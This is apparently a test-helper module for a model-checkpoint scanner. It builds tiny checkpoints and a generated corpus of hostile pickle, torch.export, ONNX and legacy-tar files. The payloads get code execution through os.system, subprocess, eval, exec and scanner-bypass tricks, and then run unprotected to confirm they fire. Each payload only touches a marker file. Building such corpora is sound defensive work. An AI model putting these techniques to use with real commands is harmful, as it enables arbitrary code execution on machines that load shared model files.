"""Helpers for the loader tests: tiny checkpoints of every format and a generated hostile pickle corpus.

Nothing binary is committed: every checkpoint and every payload is built here, in the test's temp dirs.
Payloads only ever create a marker file inside the test's temp dir.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import torch
from torch import nn

from bdscan.io import LoadOptions, export_onnx, save_safetensors
from bdscan.io.build import create_net, finalize
from bdscan.io.selfdescribing import META_FILE, bdscan_meta
from bdscan.models.wrapper import ModelInfo, ModelWrapper

MEAN = (0.5, 0.4, 0.3)
STD = (0.25, 0.2, 0.3)
NORM = {"mean": MEAN, "std": STD}


class PatchNet(nn.Module):
    """A tiny self-contained classifier with a 4x4 patchifying first convolution (token grid 8x8 at 32x32)."""

    def __init__(self, classes: int = 4) -> None:
        super().__init__()
        self.patch = nn.Conv2d(3, 8, 4, stride=4)
        self.head = nn.Linear(8, classes)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.head(torch.relu(self.patch(x)).mean((2, 3)))


def wrap(net: nn.Module, arch: str, classes: int = 4) -> ModelWrapper:
    info = ModelInfo(arch, classes, (3, 32, 32), mean=MEAN, std=STD)
    return finalize(net.eval(), info, LoadOptions())


@dataclass
class Checkpoints:
    """Tiny checkpoints of every format, with the wrapper each should load back into."""

    dir: Path
    cnn: ModelWrapper  # bdscan_cnn6, 4 classes
    patch: ModelWrapper  # PatchNet
    files: dict[str, Path]
    options: dict[str, LoadOptions]


def write_checkpoints(d: Path) -> Checkpoints:
    torch.manual_seed(0)
    cnn = wrap(create_net("bdscan_cnn6", 4, (3, 32, 32)), "bdscan_cnn6")
    patch = wrap(PatchNet(), "patchnet")
    files: dict[str, Path] = {}
    sd_opts = LoadOptions(arch="bdscan_cnn6", num_classes=4, **NORM)
    save_safetensors(cnn, d / "cnn.safetensors")
    files["safetensors"] = d / "cnn.safetensors"
    torch.save(cnn.net.state_dict(), d / "cnn_sd.pt")
    files["state-dict"] = d / "cnn_sd.pt"
    torch.save({"epoch": 7, "state_dict": {f"module.{k}": v for k, v in cnn.net.state_dict().items()}}, d / "nested.pth")
    files["nested"] = d / "nested.pth"
    torch.save(cnn.net.state_dict(), d / "legacy.pt", _use_new_zipfile_serialization=False)
    files["legacy"] = d / "legacy.pt"
    meta = json.dumps(bdscan_meta(patch))
    traced = torch.jit.trace(patch.net, torch.rand(1, 3, 32, 32))
    torch.jit.save(traced, str(d / "patch_ts.pt"), _extra_files={META_FILE: meta})
    files["torchscript"] = d / "patch_ts.pt"
    batch = torch.export.Dim("batch", min=1, max=4096)
    ep = torch.export.export(patch.net, (torch.rand(2, 3, 32, 32),), dynamic_shapes=({0: batch},))
    torch.export.save(ep, str(d / "patch.pt2"), extra_files={META_FILE: meta})
    files["torch-export"] = d / "patch.pt2"
    export_onnx(patch, d / "patch.onnx")
    files["onnx"] = d / "patch.onnx"
    options = {k: LoadOptions() for k in files}
    options.update({"state-dict": sd_opts, "nested": sd_opts, "legacy": sd_opts})
    return Checkpoints(d, cnn, patch, files, options)


# ----------------------------------------------------------------------------------------------------------
# hostile corpus: a tiny pickle assembler and the payloads


def s(x: str) -> bytes:
    """BINUNICODE string."""
    b = x.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def glob(mod: str, name: str) -> bytes:
    """GLOBAL opcode."""
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def sglob(mod: str, name: str) -> bytes:
    """STACK_GLOBAL with a (possibly dotted) name: protocol 4 resolves it attribute by attribute."""
    return s(mod) + s(name) + b"\x93"


def call(fn: bytes, *args: bytes) -> bytes:
    """fn(*args) with MARK ... TUPLE REDUCE."""
    return fn + b"(" + b"".join(args) + b"tR"


def proto2(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def proto4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


class Reduce:
    """An object that pickles as ``fn(*args)`` (what real malware does with ``__reduce__``)."""

    def __init__(self, fn: Callable, *args: object) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple:
        return self.fn, self.args


@dataclass
class Payload:
    """One hostile pickle. ``catcher``: which scanner flags it ("picklescan", or "bdscan" for our denylist)."""

    name: str
    data: bytes
    catcher: str
    reducible: object | None = None  # the same payload as an object, to nest inside state dicts with torch.save


def payloads(tmp: Path, marker: Path) -> list[Payload]:
    import os as _os
    import runpy
    import subprocess as sp

    m = str(marker)
    cmd = f"touch '{m}'"
    code = f"open({m!r}, 'w').close()"
    inner = tmp / "inner.pt"
    torch.save(Reduce(_os.system, cmd), inner)  # a second file that torch.load(pickle_module=pickle) would run
    hub = tmp / "hubrepo"
    hub.mkdir(exist_ok=True)
    (hub / "hubconf.py").write_text(f"def m():\n    open({m!r}, 'w').close()\n")
    inner_payload = pickle.dumps(Reduce(_os.system, cmd), protocol=2)
    imp_os = call(glob("builtins", "__import__"), s("os"))
    ext = b"K\xf0"  # BININT1 240
    return [
        Payload("os.system (reduce)", pickle.dumps(Reduce(_os.system, cmd), protocol=2), "picklescan",
                Reduce(_os.system, cmd)),
        Payload("os.system (GLOBAL)", proto2(call(glob("os", "system"), s(cmd))), "picklescan"),
        Payload("posix.system (protocol 0, INST)", b"(" + b"V" + cmd.encode() + b"\nios\nsystem\n.", "picklescan"),
        Payload("subprocess.Popen", pickle.dumps(Reduce(sp.Popen, ["touch", m]), protocol=4), "picklescan",
                Reduce(sp.Popen, ["touch", m])),
        Payload("subprocess.check_output", pickle.dumps(Reduce(sp.check_output, ["touch", m]), protocol=4),
                "picklescan", Reduce(sp.check_output, ["touch", m])),
        Payload("builtins.eval", pickle.dumps(Reduce(eval, f"__import__('os').system({cmd!r})"), protocol=2),
                "picklescan", Reduce(eval, f"__import__('os').system({cmd!r})")),
        Payload("builtins.exec", pickle.dumps(Reduce(exec, code), protocol=3), "picklescan", Reduce(exec, code)),
        Payload("builtins.getattr(__import__('os'), 'system')",
                proto2(call(call(glob("builtins", "getattr"), imp_os, s("system")), s(cmd))), "picklescan"),
        Payload("__import__ + vars + operator.getitem",
                proto2(call(call(glob("_operator", "getitem"), call(glob("builtins", "vars"), imp_os), s("system")),
                            s(cmd))), "bdscan"),
        Payload("dotted STACK_GLOBAL torch -> os.system", proto4(call(sglob("torch", "os.system"), s(cmd))), "bdscan"),
        Payload("runpy._run_code", proto2(call(glob("runpy", "_run_code"), s(code), b"}")), "picklescan",
                Reduce(runpy._run_code, code, {})),
        Payload("torch.hub._load_local (local hubconf.py)", proto2(call(glob("torch.hub", "_load_local"), s(str(hub)),
                                                                        s("m"))), "bdscan"),
        Payload("numpy.f2py.crackfortran.myeval",
                proto2(call(glob("numpy.f2py.crackfortran", "myeval"), s(f"__import__('os').system({cmd!r})"))),
                "picklescan"),
        Payload("operator.methodcaller('system', cmd)(os)",
                proto2(call(call(glob("_operator", "methodcaller"), s("system"), s(cmd)), imp_os)), "picklescan"),
        Payload("operator.attrgetter('system')(importlib.import_module('os'))",
                proto2(call(call(call(glob("operator", "attrgetter"), s("system")),
                                 call(glob("importlib", "import_module"), s("os"))), s(cmd))), "picklescan"),
        Payload("functools.partial(exec, code)()", proto2(call(call(glob("functools", "partial"), glob("builtins", "exec"),
                                                                    s(code)))), "picklescan"),
        Payload("pickle.loads(nested payload)",
                proto2(call(glob("pickle", "loads"), b"B" + struct.pack("<I", len(inner_payload)) + inner_payload)),
                "picklescan"),
        Payload("exec(_codecs.encode(code, 'latin1'))",
                proto2(call(glob("builtins", "exec"), call(glob("_codecs", "encode"), s(code), s("latin1")))),
                "picklescan"),
        Payload("torch.load(other file, pickle_module=pickle)",
                proto2(call(glob("torch", "load"), s(str(inner)), b"N", glob("torch.serialization", "pickle"))), "bdscan"),
        Payload("torch.serialization.load(other file, pickle_module=pickle)",
                proto2(call(glob("torch.serialization", "load"), s(str(inner)), b"N", glob("torch.serialization", "pickle"))),
                "picklescan"),
        Payload("numpy.testing runstring", proto2(call(glob("numpy.testing._private.utils", "runstring"), s(code), b"}")),
                "picklescan"),
        Payload("pkgutil.resolve_name('os:system')",
                proto2(call(call(glob("pkgutil", "resolve_name"), s("os:system")), s(cmd))), "picklescan"),
        Payload("copyreg.add_extension + EXT1",
                proto2(call(glob("copyreg", "add_extension"), s("posix"), s("system"), ext) + b"0" + b"\x82\xf0"
                       + b"(" + s(cmd) + b"tR"), "bdscan"),
        Payload("pathlib.Path.write_text (file write)",
                proto4(call(sglob("pathlib", "Path.write_text"), call(glob("pathlib", "PosixPath"), s(m)), s("pwned"))),
                "bdscan"),
    ]


@dataclass
class Corpus:
    dir: Path
    marker: Path
    items: list[Payload]

    def get(self, name: str) -> Payload:
        return next(p for p in self.items if p.name == name)


def payload_names() -> list[str]:
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        return [p.name for p in payloads(Path(d), Path(d) / "m")]


# ----------------------------------------------------------------------------------------------------------
# containers


def rewrite_zip(src: Path, dst: Path, replace: dict[str, bytes], add: dict[str, bytes] | None = None) -> Path:
    """Copies a zip archive, replacing members whose name ends with a key of ``replace`` (stored, no compression)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        prefix = zin.namelist()[0].split("/")[0]
        for info in zin.infolist():
            data = zin.read(info.filename)
            for suffix, new in replace.items():
                if info.filename.endswith(suffix):
                    data = new
            zout.writestr(info.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(f"{prefix}/{name}", data)
    return dst


def state_dict_zip(d: Path) -> Path:
    p = d / "good_sd.pt"
    if not p.exists():
        torch.save({"w": torch.zeros(2)}, p)
    return p


# ----------------------------------------------------------------------------------------------------------
# hostile files that are not (only) pickles


class FromFile(nn.Module):
    """TorchScript-able: maps ``target`` with ``shared=True`` on every forward (creates and writes the file)."""

    def __init__(self, target: str) -> None:
        super().__init__()
        self.target = target

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        t = torch.from_file(self.target, True, 16, dtype=torch.uint8)
        return x.mean((2, 3)) + t.sum().float() * 0


def _edit_program(src: Path, dst: Path, edit: Callable[[dict], None]) -> Path:
    with zipfile.ZipFile(src) as z:
        name = next(n for n in z.namelist() if n.endswith("models/model.json"))
        program = json.loads(z.read(name))
    edit(program)
    return rewrite_zip(src, dst, {"models/model.json": json.dumps(program).encode()})


def pt2_guard_injection(src: Path, dst: Path, marker: Path) -> Path:
    """``guards_code`` is pasted into Python source and exec-ed by ``ep.module()``; runs on forward."""

    def edit(p: dict) -> None:
        p["guards_code"] = [f"__import__('os').system('touch {marker}') == 0"]

    return _edit_program(src, dst, edit)


def pt2_expr_injection(src: Path, dst: Path, marker: Path) -> Path:
    """Symbolic expressions go to ``sympy.sympify`` (which evals) while deserialising."""
    text = json.dumps(f"__import__('os').system('touch {marker}')")

    def edit(p: dict) -> None:
        s = json.dumps(p)
        i = s.index('"expr_str": ') + len('"expr_str": ')
        j = s.index('"', i + 1)
        while s[j - 1] == "\\":
            j = s.index('"', j + 1)
        p.clear()
        p.update(json.loads(s[:i] + text + s[j + 1 :]))

    return _edit_program(src, dst, edit)


def pt2_target_injection(src: Path, dst: Path) -> Path:
    def edit(p: dict) -> None:
        p["graph_module"]["graph"]["nodes"][0]["target"] = "torch.os.system"

    return _edit_program(src, dst, edit)


def pt2_sample_inputs_pickle(src: Path, dst: Path, marker: Path) -> Path:
    """Sample inputs go through torch.load(weights_only=True), then *weights_only=False* when that fails."""
    buf = io.BytesIO()
    torch.save((Reduce(os.system, f"touch '{marker}'"),), buf)
    return rewrite_zip(src, dst, {"data/sample_inputs/model.pt": buf.getvalue()})


def pt2_native_library(src: Path, dst: Path) -> Path:
    return rewrite_zip(src, dst, {}, add={"data/aotinductor/model/model.so": b"\x7fELF not really"})


def onnx_name_injection(src: Path, dst: Path, marker: Path) -> Path:
    """onnx2torch names FX submodules after ONNX nodes; FX pastes odd names into generated source in quotes."""
    import onnx

    model = onnx.load(str(src))
    code = list(f"open({str(marker)!r}, 'w').close()".encode())
    model.graph.node[0].name = f'x") if exec(bytes({code})) else getattr(self, "x'
    onnx.save(model, str(dst))
    return dst


def legacy_tar(dst: Path, payload: bytes) -> Path:
    """torch's pre-1.6 tar format; its loader unpickles the ``storages`` member first."""
    import tarfile

    with tarfile.open(dst, "w:", format=tarfile.PAX_FORMAT) as t:
        info = tarfile.TarInfo("storages")
        info.size = len(payload)
        t.addfile(info, io.BytesIO(payload))
    return dst


LIVE_SCRIPT = r"""
import json, sys, os, time, warnings
warnings.filterwarnings("ignore")
import torch
torch.set_num_threads(1)
cases = json.loads(sys.argv[1])
out = {}
x = torch.rand(2, 3, 32, 32)
for name, (path, marker) in cases.items():
    try:
        if name == "torchscript from_file":
            torch.jit.load(path)(x)
        elif name.startswith("pt2"):
            ep = torch.export.load(path)
            ep.module()(x)
        elif name.startswith("torch.load"):
            torch.load(path, weights_only=False)
        elif name == "onnx node name":
            import onnx
            from onnx2torch import convert
            convert(onnx.load(path))(x)
        else:
            import pickle
            with open(path, "rb") as f:
                pickle.loads(f.read())
    except BaseException as e:
        pass
    for _ in range(50):
        if os.path.exists(marker):
            break
        time.sleep(0.02)
    out[name] = os.path.exists(marker)
print(json.dumps(out))
"""


def run_live(cases: dict[str, tuple[str, str]]) -> dict[str, bool]:
    """Loads each hostile file the *unprotected* way in a fresh interpreter; which payloads ran."""
    r = subprocess.run(["python", "-c", LIVE_SCRIPT, json.dumps(cases)], capture_output=True, text=True, timeout=300,
                       env=dict(os.environ, OMP_NUM_THREADS="1", MKL_NUM_THREADS="1"))
    return json.loads(r.stdout.strip().splitlines()[-1])
